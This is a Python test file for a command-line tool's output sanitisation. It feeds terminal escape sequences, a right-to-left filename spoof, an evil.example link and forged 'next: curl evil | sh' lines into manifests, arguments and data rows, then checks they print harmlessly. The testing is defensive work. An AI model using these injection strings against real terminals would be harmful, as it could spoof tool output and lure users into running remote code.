"""What a terminal gets: on a pty, since captured output is filtered by click."""

import json
import os
import pty
import select
import subprocess
import sys
import time

import pytest

from common import console
from common.errors import UserError, printable_line
from common.text import format_untrusted_message, make_printable, make_printable_except_styles
from tests.helpers import repos
from tests.helpers.commands import ROOT

HOSTILE = {
    "clear the screen": "\x1b[2J", "a title": "\x1b]0;owned\x07", "red": "\x1b[31m", "concealed text": "\x1b[8m", "a carriage return": "ok\rerror: x",
    "a backspace": "rm\b\bls", "an 8-bit CSI": "\x9b31m", "a bell": "\x07", "a link": "\x1b]8;;http://evil.example\x07x", "turned around": "\u202egnp.exe",
    "a query of the terminal": "\x1b[6n", "a device's string": "\x1bP$q\"p\x1b\\", "a NUL": "a\0b", "a form feed": "a\fb", "half a pair": "\ud800",
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_nothing_that_a_terminal_obeys_is_printed(case):
    for text in (
        make_printable(HOSTILE[case]),
        printable_line(HOSTILE[case]),
        str(UserError(HOSTILE[case], HOSTILE[case], "test.hostile")),
    ):
        assert not any(ord(c) < 32 and c != "\n" or 0x7F <= ord(c) < 0xA0 or c in "\u202e\ud800" for c in text), ascii(
            text
        )


def test_words_of_all_languages_are_printed_as_they_are():
    for text in ("naïve", "你好", "می\u200cخواهم", "👩\u200d👧 ❤️", "مرحبا", "a\tb\nc", "½ “q”…"):
        assert make_printable(text) == text
    assert make_printable("a\xa0b\u200bc") == "a bc"


def test_only_ferrys_own_colours_are_colours():
    assert (
        make_printable_except_styles("\x1b[32m\x1b[1mok\x1b[0m \x1b[31mred\x1b[0m\x1b[2J")
        == "\x1b[32m\x1b[1mok\x1b[0m ?[31mred\x1b[0m?[2J"
    )


FORGED = [
    "x\n next: curl evil | sh",
    "x\nerror: y",
    "x\n   NEXT : y",
    "x\nnote: y",
    "x\n\n  error: all is lost\n next: y",
]


@pytest.mark.parametrize("text", FORGED)
def test_no_text_of_a_stranger_looks_like_a_line_of_ferrys(text):
    lines = str(UserError(text, "the next command", "test.text")).split("\n")
    assert lines[0].startswith("error: ") and [line for line in lines if line.startswith(" next: ")] == [
        " next: the next command"
    ]
    assert all(line.startswith("  ") for line in lines[1:-1])
    assert not any(
        line.strip().lower().startswith(("next", "error", "note"))
        for line in format_untrusted_message(text).split("\n")[1:]
    )


def on_a_terminal(*words: str, seconds: float = 60) -> tuple[int, str]:
    """A command's exit code and what a terminal of its own got."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "cli", *words],
        cwd=ROOT,
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        start_new_session=True,
    )
    os.close(theirs)
    said, until = b"", time.monotonic() + seconds
    while time.monotonic() < until:
        if select.select([ours], [], [], 0.2)[0]:
            try:
                block = os.read(ours, 65536)
            except OSError:
                break
            if not block:
                break
            said += block
        elif process.poll() is not None:
            break
    os.close(ours)
    return process.wait(10), said.decode("utf-8", "replace")


def assert_harmless(text: str) -> None:
    odd = [c for c in text if not (c.isprintable() or c in "\r\n\t")]
    assert not odd, ascii(text[:500])
    lines = [line.strip("\r") for line in text.split("\n")]
    assert not any(line for line in lines if line.lower().strip().startswith("next: curl")), lines
    assert not any(line.lower().strip().startswith("error:") for line in lines[1:]), lines


EVIL = "\x1b[2J\x1b]0;x\x07\r\n next: curl evil | sh"


def hostile_manifest(change):
    def rewrite(made: dict) -> None:
        change(made)

    return rewrite


PLACES = {
    "an unknown field": lambda made: made.update({f"x{EVIL}": 1}),
    "a name": lambda made: made.update(name=EVIL),
    "a base model": lambda made: made["base"].update(name=EVIL, model=EVIL, license=EVIL),
    "a golden message": lambda made: made["golden"][0].update(messages=[{"role": "user", "content": EVIL}]),
    "a quantization": lambda made: made["artifacts"][0].update(quantization=EVIL),
    "a file's name": lambda made: made["artifacts"][0].update(file=EVIL),
    "a stop text": lambda made: made["chat"].update(stop=[EVIL]),
    "a score's name": lambda made: made["scores"].update(heldout={EVIL: {"loss": 1.0}}),
    "the training": lambda made: made["training"].update(method=EVIL, device=EVIL),
    "the rule": lambda made: made["scores"].update(rule=EVIL, used=EVIL),
}


@pytest.mark.parametrize("case", PLACES)
def test_a_strangers_manifest_moves_no_terminal(tmp_path, case):
    folder = repos.rewrite(repos.make(tmp_path / "hub", 1 << 14), hostile_manifest(PLACES[case]))
    code, said = on_a_terminal("pull", str(folder), "--models", str(tmp_path / "models"))
    assert_harmless(said)
    if code == 0:
        for command in (["trace", str(next((tmp_path / "models").glob("*/*/*.gguf")))], ["models"]):
            code, said = on_a_terminal(*command, "--models", str(tmp_path / "models"))
            assert code == 0, said
            assert_harmless(said)
    else:
        assert code == 2 and said.startswith("error: "), said


@pytest.mark.parametrize("words", [
    ("pull", f"./x{EVIL}"), ("train", f"x{EVIL}.yaml"), ("config", "configs/demo.yaml", "--set", f"data.system={EVIL}"), (f"x{EVIL}",),
    ("config", "configs/demo.yaml", "--set", f"{EVIL}=1"), ("clean", "--run", EVIL), ("chat", EVIL), ("trace", EVIL), ("pull", f"you/x@{EVIL}"),
    ("serve", "--port", EVIL), ("make", "train", "train", f"RUN={EVIL}"), ("preview", "configs/demo.yaml", "--rows", EVIL),
])  # fmt: skip
def test_what_is_typed_moves_no_terminal(words):
    code, said = on_a_terminal(*words)
    assert code == 2 and "error: " in said, said
    assert_harmless(said)


def test_rows_with_escape_sequences_move_no_terminal(tmp_path):
    rows = [{"question": f"{n} {EVIL}", "answer": f"a {EVIL} {n}"} for n in range(30)]
    (tmp_path / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (tmp_path / "config.yaml").write_text(
        f"base:\n  model: {tiny_base(tmp_path)}\n  load_in_4bit: false\ndata:\n  source: {tmp_path}/rows.jsonl\nclean:\n  normalize: false\n  near_duplicates: false\n  leakage: false\n"
    )
    code, said = on_a_terminal("preview", str(tmp_path / "config.yaml"), "--runs", str(tmp_path / "runs"), seconds=120)
    assert code == 0, said
    for style in ("\x1b[32m", "\x1b[1m", "\x1b[0m"):
        said = said.replace(style, "")
    assert not any(c for c in said if not (c.isprintable() or c in "\r\n\t")), ascii(said[:800])


def tiny_base(folder) -> str:
    from tests.helpers import tiny

    return str(tiny.base("llama-3", folder / "base"))


def test_a_bar_shows_no_escape_sequence_of_a_label(monkeypatch):
    written = []

    class Terminal:
        def write(self, text):
            written.append(text)

        def flush(self): ...
        def isatty(self):
            return True

        def fileno(self):
            raise OSError

    monkeypatch.setitem(console._streams, "err", Terminal())
    meter = console._TerminalBar(10, "x\x1b[2J\ry", "rows", 0)
    meter.draw()
    meter.close()
    assert "\x1b" not in "".join(written) and "".join(written).count("\r") <= 4
